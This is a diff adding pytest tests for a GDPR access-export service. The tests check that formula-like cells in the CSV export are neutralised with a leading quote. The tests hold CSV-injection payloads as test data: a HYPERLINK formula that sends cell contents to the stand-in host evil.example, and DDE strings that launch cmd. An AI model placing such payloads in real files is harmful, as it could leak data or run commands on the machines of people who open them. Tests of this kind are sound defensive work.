@@ -1,4 +1,5 @@
 """Every GDPR right end to end: portal request → verification → officer → execution → client's email."""
+import csv
 import datetime as dt
 import io
 import json
@@ -7,7 +8,7 @@ import zipfile
 import boto3
 import pytest
 
-from chalicelib import clock
+from chalicelib import clock, exports
 
 
 def execute(api, team, request_id, **extra):
@@ -47,6 +48,44 @@ def test_access_export_holds_every_dossier_of_the_client_with_art15_information(
     doc = [d for d in data["dossiers"] if d["dossier_id"] == first["dossier_id"]][0]["documents"][0]
     assert archive.read(doc["path"]) == b"scan-bytes"
     assert "Mortgage" in archive.read("data.csv").decode()
+
+
+# What a spreadsheet would run as a formula when it opens data.csv (OWASP "CSV injection").
+FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def csv_rows(entries: list[dict]) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(exports._csv(entries))))
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_export_csv_quotes_out_formulas_in_titles_field_names_and_values(payload):
+    rows = csv_rows([{"dossier_id": "d_1", "title": payload, "created_at": "2026-01-01T00:00:00Z",
+                      "fields": {payload: payload}}])
+    _, title, _, name, value = rows[1]
+    assert title == name == value == "'" + payload
+
+
+def test_export_csv_leaves_ordinary_cells_as_they_are():
+    rows = csv_rows([{"dossier_id": "d_1", "title": "Mortgage – Zoë", "created_at": "2026-01-01T00:00:00Z",
+                      "fields": {"phone": "06 12 34 56 78", "note": "a=b, c+d", "count": 3}}])
+    assert rows[1:] == [["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "phone", "06 12 34 56 78"],
+                        ["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "note", "a=b, c+d"],
+                        ["d_1", "Mortgage – Zoë", "2026-01-01T00:00:00Z", "count", "3"]]
+
+
+def test_access_export_csv_is_inert_while_data_json_keeps_the_exact_text(api, team):
+    title, name, value = '=HYPERLINK("https://evil.example","x")', "@SUM(A1)", "+cmd|' /C calc'!A0"
+    api.new_dossier(team, "alice@client.example", title=title, fields={name: value})
+    request_id = api.verified_request(team, "alice@client.example", "access")
+    assert execute(api, team, request_id).status_code == 200
+    api.pump()
+    archive = follow_export(api, "alice@client.example")
+    dossier = json.loads(archive.read("data.json"))["dossiers"][0]
+    assert dossier["title"] == title and dossier["fields"] == {name: value}
+    row = list(csv.reader(io.StringIO(archive.read("data.csv").decode())))[1]
+    assert row[1] == "'" + title and row[3:] == ["'" + name, "'" + value]
 
 
 def test_portability_export_has_no_art15_section_but_the_same_data(api, team):
